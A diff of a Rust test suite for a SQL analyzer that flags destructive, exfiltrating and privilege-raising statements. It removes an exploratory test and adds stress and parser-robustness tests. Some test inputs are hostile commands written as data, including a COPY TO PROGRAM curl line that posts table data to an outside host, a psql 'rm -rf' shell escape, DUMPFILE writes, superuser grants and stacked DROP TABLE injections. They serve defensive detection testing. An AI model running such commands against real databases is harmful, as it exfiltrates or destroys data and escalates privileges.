@@ -26,86 +26,6 @@ fn kinds(f: &[Fact]) -> Vec<&str> {
 }
 
 #[test]
-#[ignore]
-fn explore() {
-    let cases: &[(&str, Dialect)] = &[
-        ("DROP OWNED BY bob CASCADE", Dialect::Postgres),
-        ("DROP FOREIGN TABLE IF EXISTS a.b, c", Dialect::Postgres),
-        ("DROP SCHEMA s CASCADE; DROP DATABASE d; DROP INDEX i; DROP FUNCTION f(int); DROP EXTENSION e CASCADE; DROP ROLE r; DROP USER u; DROP TYPE t; DROP SEQUENCE s; DROP VIEW v; DROP MATERIALIZED VIEW mv", Dialect::Postgres),
-        ("TRUNCATE a, b CASCADE", Dialect::Postgres),
-        ("DELETE FROM t WHERE 1=1", Dialect::Postgres),
-        ("DELETE FROM t USING u WHERE t.id = u.id", Dialect::Postgres),
-        ("UPDATE t SET a = 1 FROM u", Dialect::Postgres),
-        ("ALTER TABLE t DROP COLUMN a, DROP COLUMN IF EXISTS b CASCADE, DROP CONSTRAINT c, RENAME TO t2", Dialect::Postgres),
-        ("ALTER TABLE t RENAME TO t2", Dialect::Postgres),
-        ("COPY t TO PROGRAM 'curl -d @- http://x'", Dialect::Postgres),
-        ("COPY (SELECT * FROM t) TO '/tmp/x.csv' WITH (FORMAT csv)", Dialect::Postgres),
-        ("COPY t FROM STDIN", Dialect::Postgres),
-        ("SELECT * FROM users INTO OUTFILE '/tmp/x'", Dialect::MySql),
-        ("SELECT * INTO DUMPFILE '/tmp/x' FROM users", Dialect::MySql),
-        ("GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC", Dialect::Postgres),
-        ("GRANT SELECT ON t TO Bob, alice", Dialect::Postgres),
-        ("ALTER ROLE bob WITH SUPERUSER", Dialect::Postgres),
-        ("ALTER USER bob SUPERUSER", Dialect::Postgres),
-        ("CREATE ROLE bob SUPERUSER LOGIN", Dialect::Postgres),
-        ("CREATE USER bob SUPERUSER", Dialect::Postgres),
-        ("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", Dialect::Postgres),
-        ("EXPLAIN ANALYZE DELETE FROM t", Dialect::Postgres),
-        ("EXPLAIN (ANALYZE, BUFFERS) DELETE FROM t", Dialect::Postgres),
-        ("EXPLAIN DELETE FROM t", Dialect::Postgres),
-        ("PREPARE p AS DELETE FROM t", Dialect::Postgres),
-        ("CREATE FUNCTION f() RETURNS void AS $$ DELETE FROM t $$ LANGUAGE sql", Dialect::Postgres),
-        ("DO $$ BEGIN DROP TABLE x; END $$", Dialect::Postgres),
-        ("SELECT * INTO newt FROM t", Dialect::Postgres),
-        ("INSERT INTO notes VALUES ('drop table users')", Dialect::Postgres),
-        ("DELETE FROM t;", Dialect::Sqlite),
-        ("CREATE TRIGGER tr AFTER INSERT ON t BEGIN DELETE FROM x; END;", Dialect::Sqlite),
-        ("FOO BAR; DROP TABLE users; BAZ", Dialect::Postgres),
-        ("DROP TABLE t garbage; DELETE FROM x", Dialect::Postgres),
-        ("SELECT 'unterminated; DROP TABLE x", Dialect::Postgres),
-        ("DROP TABLE a; SELECT 'unterminated; DROP TABLE x", Dialect::Postgres),
-        ("DROP TABLE a;\n  DELETE FROM é WHERE x = 'ü';\n  DROP TABLE b", Dialect::Postgres),
-        ("CREATE OR REPLACE TABLE t (a int)", Dialect::DuckDb),
-        ("ATTACH 'x.db' AS x", Dialect::DuckDb),
-        ("INSTALL httpfs; LOAD httpfs", Dialect::DuckDb),
-        ("CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM x", Dialect::Postgres),
-        ("DELETE FROM t WHERE id IN (SELECT id FROM t)", Dialect::Postgres),
-        ("DELETE t1 FROM t1 JOIN t2 ON t1.id = t2.id", Dialect::MySql),
-        ("RENAME TABLE a TO b", Dialect::MySql),
-        ("CREATE USER bob SUPERUSER", Dialect::Postgres),
-        ("SELECT * INTO DUMPFILE '/tmp/x' FROM users", Dialect::MySql),
-    ];
-    for sql in [
-        "SELECT 1 \\gset\nDROP TABLE x;",
-        "select 1 \\g | cat > out\n\\! rm -rf /tmp/x\n\\!\n",
-        "\\copy t to program 'curl -d @- http://x' with csv\n\\copy (DELETE FROM t RETURNING *) to out.csv\n\\copy t from stdin\n",
-        "\\i setup.sql\n\\ir 'other file.sql'\nSELECT format('DROP TABLE %I', t) FROM x \\gexec\n",
-        "\\set x 1\nDELETE FROM t WHERE id = :id;\nDROP TABLE :\"tbl\";\nSELECT :'v'::text;\nSELECT a::int, arr[1:2] FROM t;",
-        "COPY t FROM stdin;\nDROP TABLE x\t1\n\\.\nDROP TABLE y;",
-        "SELECT 'a \\! no' AS x; -- \\! not a command\nSELECT $$ \\! nope $$;",
-        "\\o |gzip > x.gz\n\\w | cat\n\\dt+\n\\q",
-    ] {
-        eprintln!("=== psql {sql:?}");
-        let a = analyze_psql(sql);
-        for f in &a.facts {
-            eprintln!("  {} {} [{}..{}] {:?}", f.kind, serde_json::Value::Object(f.attrs.clone()), f.span.start, f.span.end, f.summary);
-        }
-        for (c, s) in &a.shell_commands {
-            eprintln!("  shell {c:?} [{}..{}] {:?}", s.start, s.end, &sql[s.start..s.end]);
-        }
-        for (c, s) in &a.includes {
-            eprintln!("  include {c:?} [{}..{}] {:?}", s.start, s.end, &sql[s.start..s.end]);
-        }
-    }
-    for (sql, d) in cases {
-        eprintln!("=== {sql:?} ({d:?})");
-        for f in analyze(sql, *d) {
-            eprintln!("  {} {} [{}..{}] {:?}", f.kind, serde_json::Value::Object(f.attrs.clone()), f.span.start, f.span.end, f.summary);
-        }
-    }
-}
-
-#[test]
 fn drop_facts() {
     let f = pg("DROP TABLE IF EXISTS public.users, orders CASCADE");
     let d = one(&f, "sql.drop");
@@ -161,29 +81,63 @@ fn truncate_facts() {
 
 fn filter(sql: &str, d: Dialect) -> String {
     let f = analyze(sql, d);
-    let x = f
-        .iter()
-        .find(|f| f.kind == "sql.delete" || f.kind == "sql.update")
-        .unwrap_or_else(|| panic!("{sql}: {f:#?}"));
+    let x =
+        f.iter().find(|f| f.kind == "sql.delete" || f.kind == "sql.update").unwrap_or_else(|| panic!("{sql}: {f:#?}"));
     attr(x, "filter").as_str().unwrap_or_default().to_string()
 }
 
 #[test]
 fn tautology_table() {
     let always = [
-        "1=1", "true", "TRUE", "'a'='a'", "1", "x=x", "t.x = T.X", "NOT false", "1=1 OR id = 5",
-        "id = 5 OR true", "(1=1)", "((1=1))", "2>1", "id IS NOT NULL OR 1=1", "TRUE AND TRUE",
-        "1 <> 2", "NOT (1=2)", "1+1=2", "1 IN (1, 2)", "2 BETWEEN 1 AND 3", "NULL IS NULL",
-        "1 IS NOT NULL", "true IS TRUE", "'b' > 'a'", "-1 < 0", "x = x AND 1 = 1",
+        "1=1",
+        "true",
+        "TRUE",
+        "'a'='a'",
+        "1",
+        "x=x",
+        "t.x = T.X",
+        "NOT false",
+        "1=1 OR id = 5",
+        "id = 5 OR true",
+        "(1=1)",
+        "((1=1))",
+        "2>1",
+        "id IS NOT NULL OR 1=1",
+        "TRUE AND TRUE",
+        "1 <> 2",
+        "NOT (1=2)",
+        "1+1=2",
+        "1 IN (1, 2)",
+        "2 BETWEEN 1 AND 3",
+        "NULL IS NULL",
+        "1 IS NOT NULL",
+        "true IS TRUE",
+        "'b' > 'a'",
+        "-1 < 0",
+        "x = x AND 1 = 1",
     ];
     for w in always {
         assert_eq!(filter(&format!("DELETE FROM t WHERE {w}"), Dialect::Postgres), "always_true", "{w}");
         assert_eq!(filter(&format!("UPDATE t SET a = 1 WHERE {w}"), Dialect::MySql), "always_true", "{w}");
     }
     let some = [
-        "id = 5", "x = y", "1=1 AND id = 5", "false", "1=2", "NULL", "NOT NULL", "id IS NOT NULL",
-        "x = \"X\"", "id IN (SELECT id FROM t)", "name = 'a'", "'a' = 'b'", "0", "id > 1 OR id < 10",
-        "EXISTS (SELECT 1)", "f(1) = f(1)", "1 = 1 AND x",
+        "id = 5",
+        "x = y",
+        "1=1 AND id = 5",
+        "false",
+        "1=2",
+        "NULL",
+        "NOT NULL",
+        "id IS NOT NULL",
+        "x = \"X\"",
+        "id IN (SELECT id FROM t)",
+        "name = 'a'",
+        "'a' = 'b'",
+        "0",
+        "id > 1 OR id < 10",
+        "EXISTS (SELECT 1)",
+        "f(1) = f(1)",
+        "1 = 1 AND x",
     ];
     for w in some {
         assert_eq!(filter(&format!("DELETE FROM t WHERE {w}"), Dialect::Postgres), "some", "{w}");
@@ -384,12 +338,53 @@ fn parse_errors_do_not_hide_neighbours() {
 fn no_panic_on_garbage() {
     let start = std::time::Instant::now();
     let mut inputs: Vec<String> = [
-        "", ";", ";;;", "'", "\"", "$$", "$a$", "/*", "--", "(", ")", "\0", "DROP", "DROP TABLE",
-        "DELETE FROM", "DELETE FROM t WHERE", "COPY", "COPY t TO PROGRAM", "GRANT", "ALTER TABLE t DROP",
-        "SELECT 'abc", "SELECT \"abc", "SELECT $$abc", "SELECT /* abc", "\u{feff}DROP TABLE t",
-        "DROP TABLE \0t", "é'ü\"ß$$", "E'\\'", "SELECT 1 INTO", "SELECT 1 INTO OUTFILE", "\\", ":x", "::", "DO",
-        "CREATE USER", "TRUNCATE", "DROP OWNED BY", "\\copy", "\\copy t to program", "\\g |", "\\! ",
-        "COPY t FROM stdin;", "COPY t FROM stdin;\nx\n", ":'", ":\"x", "$1$", "\r\n\r\n",
+        "",
+        ";",
+        ";;;",
+        "'",
+        "\"",
+        "$$",
+        "$a$",
+        "/*",
+        "--",
+        "(",
+        ")",
+        "\0",
+        "DROP",
+        "DROP TABLE",
+        "DELETE FROM",
+        "DELETE FROM t WHERE",
+        "COPY",
+        "COPY t TO PROGRAM",
+        "GRANT",
+        "ALTER TABLE t DROP",
+        "SELECT 'abc",
+        "SELECT \"abc",
+        "SELECT $$abc",
+        "SELECT /* abc",
+        "\u{feff}DROP TABLE t",
+        "DROP TABLE \0t",
+        "é'ü\"ß$$",
+        "E'\\'",
+        "SELECT 1 INTO",
+        "SELECT 1 INTO OUTFILE",
+        "\\",
+        ":x",
+        "::",
+        "DO",
+        "CREATE USER",
+        "TRUNCATE",
+        "DROP OWNED BY",
+        "\\copy",
+        "\\copy t to program",
+        "\\g |",
+        "\\! ",
+        "COPY t FROM stdin;",
+        "COPY t FROM stdin;\nx\n",
+        ":'",
+        ":\"x",
+        "$1$",
+        "\r\n\r\n",
     ]
     .iter()
     .map(|s| s.to_string())
@@ -402,8 +397,11 @@ fn no_panic_on_garbage() {
     inputs.push(format!("SELECT 1{}", "::int".repeat(20_000)));
     inputs.push(format!("SELECT {}", "-".repeat(20_000) + "1"));
     inputs.push(format!("SELECT a{}", "[1]".repeat(20_000)));
-    inputs.push("DROP TABLE t; ".repeat(20_000));
-    inputs.push("SELEC x; ".repeat(20_000));
+    inputs.push(format!("SELECT {}", "- ".repeat(20_000) + "1"));
+    inputs.push(format!("DELETE FROM t WHERE {}1=1", "(1=1) OR ".repeat(20_000)));
+    inputs.push(format!("SELECT {}1{}", "(1 + ".repeat(900), ")".repeat(900)));
+    inputs.push("DROP TABLE t; ".repeat(5_000));
+    inputs.push("SELEC x; ".repeat(5_000));
     inputs.push(format!("SELECT '{}'", "x".repeat(1_000_000)));
     for s in &inputs {
         for d in [Dialect::Postgres, Dialect::MySql, Dialect::Sqlite, Dialect::DuckDb, Dialect::Generic] {
@@ -417,7 +415,14 @@ fn no_panic_on_garbage() {
             assert!(x.span.end <= s.len());
         }
     }
-    assert_eq!(analyze("DROP TABLE t; ".repeat(20_000).as_str(), Dialect::Postgres).len(), 20_000);
+    assert_eq!(analyze("DROP TABLE t; ".repeat(5_000).as_str(), Dialect::Postgres).len(), 5_000);
+    // A statement too complex to parse still yields its token-level fact.
+    let f = pg(&format!("DELETE FROM t WHERE 1=1{}", " OR 1=1".repeat(5_000)));
+    assert_eq!(kinds(&f), ["sql.parse_error", "sql.delete"]);
+    assert_eq!(attr(&f[1], "from_tokens"), true);
+    // Long comma lists are not "complex".
+    let f = pg(&format!("INSERT INTO t VALUES {}", vec!["(-1, 'a'::text)"; 5_000].join(", ")));
+    assert_eq!(kinds(&f), ["sql.write"]);
     assert!(start.elapsed().as_secs() < 60, "took {:?}", start.elapsed());
 }
 
@@ -516,9 +521,50 @@ fn postgres_extension_scripts() {
         }
     }
     let mut top: Vec<_> = by_msg.into_iter().collect();
-    top.sort_by(|a, b| b.1.cmp(&a.1));
+    top.sort_by_key(|e| std::cmp::Reverse(e.1));
     for (m, n) in top.iter().take(15) {
         eprintln!("{n:5}  {m}");
     }
     eprintln!("{files} files, {bytes} bytes, {facts} facts, {errors} parse errors, {:?}", start.elapsed());
+}
+
+/// Operator chains that `sqlparser` builds iteratively (unbounded tree depth) must not
+/// overflow the stack (see `too_complex`).
+#[test]
+fn long_chains_do_not_overflow() {
+    let n = 3_000;
+    let inputs = [
+        format!("SELECT a{}", ".b".repeat(n)),
+        format!("SELECT (a){}", ".b".repeat(n)),
+        format!("SELECT a{}", " COLLATE x".repeat(n)),
+        format!("SELECT a{}", " AT TIME ZONE 'x'".repeat(n)),
+        format!("SELECT a{}", " IS NULL".repeat(n)),
+        format!("SELECT {}a", "NOT ".repeat(n)),
+        format!("SELECT a{}", "->'a'".repeat(n)),
+        format!("SELECT 1{}", " UNION SELECT 1".repeat(n)),
+        format!("SELECT 1{}", " UNION (SELECT 1)".repeat(n)),
+        format!("SELECT * FROM a{}", " JOIN b ON true".repeat(n)),
+        format!("SELECT * FROM a{}", " NATURAL JOIN b".repeat(n)),
+        format!("SELECT {}", "ARRAY[".repeat(n)),
+        format!("SELECT a{}", " LIKE b".repeat(n)),
+        format!("SELECT a{}", " BETWEEN 1 AND 2".repeat(n)),
+        format!("SELECT a{}", " IN (1)".repeat(n)),
+        format!("SELECT a{}", " || b".repeat(n)),
+        format!("SELECT a{}", "::int".repeat(n)),
+        format!("SELECT 'a'{}", " 'b'".repeat(n)),
+        format!("SELECT {}", "CASE WHEN 1 THEN ".repeat(n)),
+        format!("WITH {} SELECT 1", (0..n).map(|i| format!("a{i} AS (SELECT 1)")).collect::<Vec<_>>().join(", ")),
+        format!("SELECT a{}", " OR b".repeat(n)),
+        format!("SELECT x FROM t{}", " WHERE".repeat(n)),
+        format!("SELECT {}1", "+".repeat(n)),
+        format!("SELECT {}1", "~".repeat(n)),
+        format!("SELECT {}1", "@ ".repeat(n)),
+        format!("SELECT {}1", "|/ ".repeat(n)),
+        format!("SELECT {}1", "!! ".repeat(n)),
+        format!("SELECT 1{}", "!".repeat(n)),
+    ];
+    for s in &inputs {
+        let _ = analyze(s, Dialect::Postgres);
+        let _ = analyze(s, Dialect::MySql);
+    }
 }
